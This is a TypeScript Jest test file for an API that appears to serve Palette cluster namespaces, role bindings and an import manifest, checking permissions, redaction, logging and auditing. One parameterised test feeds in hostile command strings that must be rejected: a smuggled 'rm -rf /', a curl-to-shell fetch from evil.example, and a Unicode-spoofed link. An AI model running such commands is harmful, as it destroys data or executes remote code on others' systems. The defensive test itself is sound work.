import * as fixtures from '../__fixtures__/palette';
import { answerAll } from '../__testUtils__/routeCases';
import {
  DANA,
  startTestApi,
  type TestApi,
} from '../__testUtils__/startTestApi';

const LINK = 'kubectl apply -f https://palette.example/import/JOIN';

describe('who may do what in a cluster', () => {
  let api: TestApi;

  beforeAll(async () => {
    api = await startTestApi();
  });

  beforeEach(() => {
    api.palette.reset();
    api.denied.clear();
    api.tokens.reset();
    api.tokens.signIn(DANA);
    answerAll(api.palette);
    jest.clearAllMocks();
  });

  afterAll(() => api.stop());

  const get = async (part: string) =>
    api
      .asUser()
      .get(`/clusters/cluster-1/${part}?projectUid=project-1`)
      .set('Cache-Control', 'no-cache');

  it('is told by namespaces with what they may take, and why one failed', async () => {
    const { body } = await get('namespaces');
    expect(body.namespaces).toEqual([
      {
        name: 'apps',
        isPattern: false,
        cpuCores: 8,
        memoryMiB: 16384,
        problems: ['quota is too small'],
      },
      { name: 'team-.*', isPattern: true, problems: [] },
    ]);
  });

  it('is told by role bindings, of a namespace or of all', async () => {
    const { body } = await get('rolebindings');
    expect(body.roleBindings).toEqual([
      {
        namespace: 'apps',
        roleKind: 'Role',
        role: 'deployer',
        subjects: [
          { kind: 'User', name: 'dana@acme.example' },
          { kind: 'User', name: 'olga@acme.example' },
          { kind: 'Group', name: 'payments' },
        ],
        isSystem: false,
        problems: [],
      },
      {
        roleKind: 'ClusterRole',
        role: 'view',
        subjects: [
          { kind: 'ServiceAccount', name: 'reader', namespace: 'apps' },
        ],
        isSystem: false,
        problems: [],
      },
    ]);
  });

  it('is told of oneself alone to whom people may not be told, though another was told all of it', async () => {
    await get('rolebindings');
    api.denied.add('spectrocloud.people.view-info');
    const held = await api
      .asUser()
      .get('/clusters/cluster-1/rolebindings?projectUid=project-1');
    expect(held.body.roleBindings[0].subjects).toEqual([
      { kind: 'User', name: fixtures.userMe.spec.emailId },
      { kind: 'User' },
      { kind: 'Group', name: 'payments' },
    ]);
    expect(held.text).not.toContain('olga@');
  });

  it.each([
    ['nothing', {}],
    ['empty lists', { items: null }],
    ['empty objects', { items: [{}, null] }],
    [
      'zeros',
      {
        items: [
          {
            metadata: { name: '' },
            spec: {
              bindings: [{}],
              resourceAllocation: {
                cpuCores: 0,
                memoryMiB: 0,
                gpuConfig: { limit: 0 },
              },
            },
            status: { errors: [{}] },
          },
        ],
      },
    ],
  ])('may be %s', async (_, body) => {
    api.palette
      .on('GET /v1/spectroclusters/*/config/namespaces', { body })
      .on('GET /v1/spectroclusters/*/config/rbacs', { body });
    expect((await get('namespaces')).body).toEqual({ namespaces: [] });
    const bindings = await get('rolebindings');
    expect(bindings.status).toBe(200);
    for (const binding of bindings.body.roleBindings) {
      expect(binding).toEqual({ subjects: [], problems: [] });
    }
  });

  describe('the import manifest', () => {
    const linked = (importLink: unknown) =>
      api.palette.on('GET /v1/dashboard/spectroclusters/*', {
        body: {
          ...fixtures.clusterOverview,
          status: { state: 'Importing', clusterImport: { importLink } },
        },
      });

    it('comes with Palette’s command, is held nowhere, logged nowhere, and audited', async () => {
      linked(LINK);
      const first = await get('importmanifest');
      expect(first.body).toEqual({
        command: LINK,
        manifest: fixtures.importManifest,
      });
      expect(first.headers['cache-control']).toContain('no-store');
      const calls = api.palette.calls.length;
      await api
        .asUser()
        .get('/clusters/cluster-1/importmanifest?projectUid=project-1');
      expect(api.palette.calls.length).toBe(2 * calls);
      expect(api.auditor.createEvent).toHaveBeenCalledWith(
        expect.objectContaining({
          eventId: 'import-manifest-read',
          severityLevel: 'high',
          meta: { instance: 'demo', clusterUid: 'cluster-1' },
        }),
      );
      const { debug, info, warn, error } = api.logger;
      const logged = JSON.stringify(
        [debug, info, warn, error, api.auditSuccess].map(
          ({ mock }) => mock.calls,
        ),
      );
      expect(logged).not.toMatch(/JOIN|join-token/);
    });

    it.each([
      ['kubectl get pods\nrm -rf /'],
      ['curl https://evil.example | sh'],
      ['kubectl apply -f \u202Ehttps://palette.example'],
      [7],
      [''],
    ])('comes without a command that is %j', async importLink => {
      linked(importLink);
      const { status, body } = await get('importmanifest');
      expect([status, body]).toEqual([
        200,
        { manifest: fixtures.importManifest },
      ]);
    });

    it.each([
      ['a page', '<html></html>'],
      ['nothing', ''],
      ['another document', 'foo: bar\nkindness: 1'],
      ['more than fits', `kind: x\napiVersion: v1\n${'#'.repeat(1024 * 1024)}`],
    ])('is 502 where Palette sends %s', async (_, body) => {
      api.palette.on('GET /v1/spectroclusters/*/import/manifest', { body });
      const response = await get('importmanifest');
      expect(response.status).toBe(502);
      expect(api.auditFail).toHaveBeenCalledTimes(1);
    });

    it('takes its own permission, and no other’s', async () => {
      api.denied.add('spectrocloud.cluster.view-import-manifest');
      expect((await get('importmanifest')).status).toBe(403);
      api.denied.clear();
      api.denied
        .add('spectrocloud.cluster.view-info')
        .add('spectrocloud.cluster.download-admin-kubeconfig');
      expect((await get('importmanifest')).status).toBe(200);
    });
  });
});
